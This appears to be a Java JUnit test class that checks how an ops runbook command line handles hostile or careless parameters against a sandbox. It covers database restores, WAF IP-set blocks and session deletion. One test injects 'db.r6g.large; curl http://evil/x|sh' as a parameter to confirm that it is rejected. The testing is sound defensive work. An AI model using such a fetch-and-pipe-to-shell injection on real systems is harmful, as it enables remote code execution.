package io.discordination.ops.runbooks;

import io.discordination.ops.runbook.testing.Cli;
import io.discordination.ops.sandbox.SandboxInfo;
import io.discordination.ops.sandbox.SeedData;
import io.discordination.ops.sandbox.junit.ResetSandbox;
import io.discordination.ops.sandbox.junit.SandboxExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.services.wafv2.Wafv2Client;
import software.amazon.awssdk.services.wafv2.model.GetIpSetResponse;
import software.amazon.awssdk.services.wafv2.model.Scope;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Runbooks given hostile or careless parameters through the {@code ops} command line, mostly as a
 * child process without a terminal, against the sandbox; a copy of its environment marked
 * {@code protected: true} stands in for prod. Effects are checked with independent clients: the
 * {@code aws} CLI for RDS, an AWS SDK client built here for the WAF IP set, JDBC for sessions.
 */
@ExtendWith(SandboxExtension.class)
@ResetSandbox
class HostileInputRunbooksTest {
    /** One OPS_HOME for the class, so each script compiles once. */
    @TempDir
    static Path home;

    /** The sandbox's names under a protected environment named drill, as prod is protected. */
    private static Path protectedEnvironment(SandboxInfo sandbox) throws IOException {
        String local = Files.readString(sandbox.environmentFile());
        assertThat(local).contains("name: local\n", "protected: false\n");
        return Files.writeString(home.resolve("drill.yaml"),
                local.replace("name: local\n", "name: drill\n").replace("protected: false\n", "protected: true\n"));
    }

    /** {@code ops ARGS} in a child JVM whose standard input is closed: no terminal to confirm on. */
    private static Cli.Result child(String... args) throws Exception {
        Cli cli = new Cli(home, Cli.projectRoot());
        Process p = cli.start(args);
        p.getOutputStream().close();
        if (!p.waitFor(3, TimeUnit.MINUTES)) {
            p.destroyForcibly();
            throw new IllegalStateException("ops " + String.join(" ", args).substring(0, 80) + " did not finish in 3 minutes");
        }
        return cli.finish(p);
    }

    private static List<String> params(String... nameValues) {
        List<String> out = new ArrayList<>();
        for (String nv : nameValues) out.addAll(List.of("--param", nv));
        return out;
    }

    private static String[] args(List<String> head, String... nameValues) {
        List<String> all = new ArrayList<>(head);
        all.addAll(params(nameValues));
        return all.toArray(String[]::new);
    }

    private static GetIpSetResponse ipSet(AreaBRunbookSupport ops, SandboxInfo sandbox) {
        try (Wafv2Client waf = ops.aws(Wafv2Client.builder())) {
            return waf.getIPSet(b -> b.name(SeedData.IP_SET_NAME).scope(Scope.REGIONAL).id(sandbox.ipSetId()));
        }
    }

    /** The DB instance identifiers, read with the {@code aws} CLI and the sandbox's exports. */
    private static String dbInstances(SandboxInfo sandbox) throws Exception {
        ProcessBuilder pb = new ProcessBuilder("aws", "rds", "describe-db-instances", "--query", "DBInstances[].DBInstanceIdentifier",
                "--output", "text").redirectErrorStream(true);
        pb.environment().remove("AWS_PROFILE");
        pb.environment().putAll(sandbox.exports());
        Process p = pb.start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).as("aws rds describe-db-instances: " + out).isZero();
        return out.strip();
    }

    // --- restore-db-backup: the instance class reaches RDS and a pasteable command ---

    @Test
    void restoreDbBackup_run_whenTheInstanceClassIsHostile_exitsTwoAndCreatesNoInstance(SandboxInfo sandbox) throws Exception {
        String before = dbInstances(sandbox);
        List<String> run = List.of("run", "restore-db-backup", "--env", sandbox.environmentFile().toString(), "--yes");

        Cli.Result injected = child(args(run, "target=restore-hostile", "instance-class=db.r6g.large; curl http://evil/x|sh"));
        Cli.Result huge = child(args(run, "target=restore-hostile", "instance-class=db." + "r".repeat(120 * 1024)));
        Cli.Result newline = child(args(run, "target=restore-hostile", "instance-class=db.r6g.large\nx"));

        assertThat(injected.exitCode()).as(injected.all()).isEqualTo(2);
        assertThat(injected.err()).contains("parameter 'instance-class': expected a DB instance class like db.r6g.large");
        assertThat(injected.out()).doesNotContain("curl");
        assertThat(huge.exitCode()).as(huge.err()).isEqualTo(2);
        assertThat(huge.err()).contains("parameter 'instance-class'", "122,883 characters, more than 40 allows");
        assertThat(huge.err().length()).isLessThan(2_000);
        assertThat(newline.exitCode()).as(newline.all()).isEqualTo(2);
        assertThat(newline.err()).contains("parameter 'instance-class'", "control character");
        assertThat(dbInstances(sandbox)).isEqualTo(before).doesNotContain("restore-hostile");
    }

    // --- durations too large for their types ---

    @Test
    void apiNotResponding_plan_whenSinceOverflows_exitsTwoWithAClearLine(SandboxInfo sandbox) {
        Cli cli = new Cli(home, Cli.projectRoot());
        for (String since : List.of("99999999999999999999m", "9223372036854775807d")) {
            Cli.Result r = cli.run("plan", "api-not-responding", "--env", sandbox.environmentFile().toString(), "--param", "since=" + since);

            assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
            assertThat(r.err()).contains("parameter 'since': expected a duration such as 30s, 10m, 1h30m, of at most 365d; got '" + since + "'")
                    .doesNotContain("For input string", "overflow", "Exception");
            assertThat(r.out()).doesNotContain("1. ");
        }
    }

    // --- a parameter given twice ---

    @Test
    void compromisedAccount_run_whenTheUserIsGivenTwice_exitsTwoAndDeletesNoSession(SandboxInfo sandbox) throws Exception {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        long before = sessions(ops);

        Cli.Result r = ops.run("compromised-account", "user=" + SeedData.userId(1), "user=" + SeedData.WELL_KNOWN_USER_ID);

        assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
        assertThat(r.err()).contains("parameter 'user' is given more than once; it takes one value");
        assertThat(sessions(ops)).isEqualTo(before);
    }

    @Test
    void rateLimitBypass_plan_whenTheListIsGivenTwice_plansBothBlocks(SandboxInfo sandbox) {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);

        Cli.Result r = ops.plan("rate-limit-bypass", "block=203.0.113.61", "block=203.0.113.62/32");

        assertThat(r.exitCode()).as(r.all()).isZero();
        assertThat(r.out()).contains("block=203.0.113.61/32,203.0.113.62/32", "addresses=203.0.113.61/32,203.0.113.62/32");
    }

    private static long sessions(AreaBRunbookSupport ops) throws SQLException {
        try (Connection c = ops.database(); ResultSet rs = c.createStatement().executeQuery("SELECT count(*) FROM sessions")) {
            rs.next();
            return rs.getLong(1);
        }
    }

    // --- rate-limit-bypass: a block denies service, so it is confirmed and bounded ---

    @Test
    void rateLimitBypass_run_whenTwoSlashOnesOnAProtectedEnvironmentWithoutTerminal_exitsTwoAndBlocksNothing(SandboxInfo sandbox)
            throws Exception {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        Path drill = protectedEnvironment(sandbox);
        GetIpSetResponse before = ipSet(ops, sandbox);

        Cli.Result r = child(args(List.of("run", "rate-limit-bypass", "--env", drill.toString()), "block=0.0.0.0/1,128.0.0.0/1"));

        assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
        assertThat(r.err()).contains("step 1 'Check the addresses to block' failed: Refusing to block 0.0.0.0/1, 128.0.0.0/1: "
                + "together 4,294,967,296 IPv4 addresses, more than a /16 (65,536)", "--param allow-wide=true", "nothing was changed");
        assertThat(r.out()).doesNotContain("2. Check for suspicious patterns");
        GetIpSetResponse after = ipSet(ops, sandbox);
        assertThat(after.ipSet().addresses()).isEqualTo(before.ipSet().addresses());
        assertThat(after.lockToken()).isEqualTo(before.lockToken());
    }

    @Test
    void rateLimitBypass_run_whenWideBlocksAreAllowedButNotConfirmed_exitsThreeAndBlocksNothing(SandboxInfo sandbox) throws Exception {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        Path drill = protectedEnvironment(sandbox);
        GetIpSetResponse before = ipSet(ops, sandbox);
        String[] allowed = {"block=0.0.0.0/1,128.0.0.0/1", "allow-wide=true", "allow-internal=true"};

        Cli.Result noYes = child(args(List.of("run", "rate-limit-bypass", "--env", drill.toString()), allowed));
        Cli.Result yesButNotTyped = child(args(List.of("run", "rate-limit-bypass", "--env", drill.toString(), "--yes"), allowed));
        Cli.Result localNoYes = child(args(List.of("run", "rate-limit-bypass", "--env", sandbox.environmentFile().toString()),
                "block=" + SeedData.DOMINANT_429_IP));

        assertThat(noYes.exitCode()).as(noYes.all()).isEqualTo(3);
        assertThat(noYes.err()).contains("Refused: block waf ip set " + SeedData.IP_SET_NAME, "environment drill is protected");
        assertThat(yesButNotTyped.exitCode()).as(yesButNotTyped.all()).isEqualTo(3);
        assertThat(yesButNotTyped.err()).contains("--confirm-env drill");
        assertThat(localNoYes.exitCode()).as(localNoYes.all()).isEqualTo(3);
        assertThat(localNoYes.err()).contains("Refused: block waf ip set", "re-run with --yes");
        GetIpSetResponse after = ipSet(ops, sandbox);
        assertThat(after.ipSet().addresses()).isEqualTo(before.ipSet().addresses());
        assertThat(after.lockToken()).isEqualTo(before.lockToken());
    }

    @Test
    void rateLimitBypass_run_whenTheSecondRangeHasHostBits_exitsTwoAndBlocksNeither(SandboxInfo sandbox) {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        GetIpSetResponse before = ipSet(ops, sandbox);

        Cli.Result r = ops.run("rate-limit-bypass", "block=203.0.113.9,10.0.0.1/24");

        assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
        assertThat(r.err()).contains("parameter 'block': expected an IPv4 or IPv6 address or CIDR",
                "Invalid CIDR '10.0.0.1/24': it has host bits set (did you mean 10.0.0.0/24?)");
        assertThat(r.out()).doesNotContain("1. Check");
        assertThat(ipSet(ops, sandbox).lockToken()).isEqualTo(before.lockToken());
        assertThat(ipSet(ops, sandbox).ipSet().addresses()).doesNotContain("203.0.113.9/32");
    }

    @Test
    void rateLimitBypass_run_whenARangeIsInternal_exitsTwoUnlessAllowed(SandboxInfo sandbox) {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        GetIpSetResponse before = ipSet(ops, sandbox);
        String platform = SeedData.PLATFORM_RANGES.get(0);

        Cli.Result privateRange = ops.run("rate-limit-bypass", "block=203.0.113.63,10.20.0.0/24");
        Cli.Result platformRange = ops.run("rate-limit-bypass", "block=" + platform);
        Cli.Result linkLocal = ops.run("rate-limit-bypass", "block=169.254.169.254");

        assertThat(privateRange.exitCode()).as(privateRange.all()).isEqualTo(2);
        assertThat(privateRange.err()).contains("Refusing to block 10.20.0.0/24: it overlaps 10.0.0.0/8, which is private (RFC 1918)",
                "--param allow-internal=true");
        assertThat(platformRange.exitCode()).as(platformRange.all()).isEqualTo(2);
        assertThat(platformRange.err()).contains("it overlaps " + platform + ", one of the platform's own ranges (waf.platformRanges)");
        assertThat(linkLocal.exitCode()).as(linkLocal.all()).isEqualTo(2);
        assertThat(linkLocal.err()).contains("link-local");
        assertThat(ipSet(ops, sandbox).lockToken()).isEqualTo(before.lockToken());

        try {
            Cli.Result allowed = ops.run("rate-limit-bypass", "block=10.20.0.0/24", "allow-internal=true");

            assertThat(allowed.exitCode()).as(allowed.all()).isZero();
            assertThat(ipSet(ops, sandbox).ipSet().addresses()).contains("10.20.0.0/24");
        } finally {
            restore(ops, sandbox, before.ipSet().addresses());
        }
    }

    @Test
    void rateLimitBypass_run_whenConfirmedOnAProtectedEnvironment_blocksEveryAddressInOneUpdate(SandboxInfo sandbox) throws Exception {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        Path drill = protectedEnvironment(sandbox);
        GetIpSetResponse before = ipSet(ops, sandbox);
        List<String> three = List.of("203.0.113.71/32", "203.0.113.72/32", "203.0.113.128/26");
        try {
            Cli.Result r = child(args(List.of("run", "rate-limit-bypass", "--env", drill.toString(), "--yes", "--confirm-env", "drill"),
                    "block=" + String.join(",", three)));

            assertThat(r.exitCode()).as(r.all()).isZero();
            assertThat(r.out()).contains("203.0.113.71/32", "203.0.113.128/26", "blocked", "finished ok");
            assertThat(ipSet(ops, sandbox).ipSet().addresses()).containsAll(before.ipSet().addresses()).containsAll(three)
                    .hasSize(before.ipSet().addresses().size() + 3);
            // one effect for the three: one started and one ok line in the audit
            String audit = Files.readString(home.resolve("audit").resolve("drill.jsonl"));
            List<String> blocks = audit.lines().filter(l -> l.contains("\"verb\":\"block\"") && l.contains("203.0.113.71/32")).toList();
            assertThat(blocks).hasSize(2);
            assertThat(blocks.get(0)).contains("\"started\"", "203.0.113.72/32", "203.0.113.128/26");
        } finally {
            restore(ops, sandbox, before.ipSet().addresses());
        }
    }

    @Test
    void rateLimitBypass_run_whenTheSetWouldHoldMoreThanTenThousand_exitsTwoBeforeAskingAndBlocksNothing(SandboxInfo sandbox)
            throws Exception {
        AreaBRunbookSupport ops = new AreaBRunbookSupport(sandbox, home);
        GetIpSetResponse original = ipSet(ops, sandbox);
        List<String> full = new ArrayList<>(original.ipSet().addresses());
        for (int i = 0; full.size() < 9_999; i++) full.add("45." + (i / 65536) + "." + (i / 256 % 256) + "." + (i % 256) + "/32");
        restore(ops, sandbox, full);
        try {
            GetIpSetResponse filled = ipSet(ops, sandbox);

            // no --yes and no terminal: a refusal would be exit 3; the limit comes first
            Cli.Result r = child(args(List.of("run", "rate-limit-bypass", "--env", sandbox.environmentFile().toString()),
                    "block=203.0.113.81,203.0.113.82"));

            assertThat(r.exitCode()).as(r.all()).isEqualTo(2);
            assertThat(r.err()).contains("holds 9,999 addresses; 2 more would make 10,001, more than the 10,000 an IP set can hold",
                    "merge neighbouring addresses into ranges", "second IP set", "rate-based rule", "nothing was changed");
            assertThat(r.out()).doesNotContain("2. Check for suspicious patterns");
            assertThat(ipSet(ops, sandbox).lockToken()).isEqualTo(filled.lockToken());
        } finally {
            restore(ops, sandbox, original.ipSet().addresses());
        }
    }

    /** Puts the IP set back to {@code addresses}, with the SDK. */
    private static void restore(AreaBRunbookSupport ops, SandboxInfo sandbox, List<String> addresses) {
        try (Wafv2Client waf = ops.aws(Wafv2Client.builder())) {
            String token = waf.getIPSet(b -> b.name(SeedData.IP_SET_NAME).scope(Scope.REGIONAL).id(sandbox.ipSetId())).lockToken();
            waf.updateIPSet(b -> b.name(SeedData.IP_SET_NAME).scope(Scope.REGIONAL).id(sandbox.ipSetId()).addresses(addresses)
                    .lockToken(token));
        }
    }
}
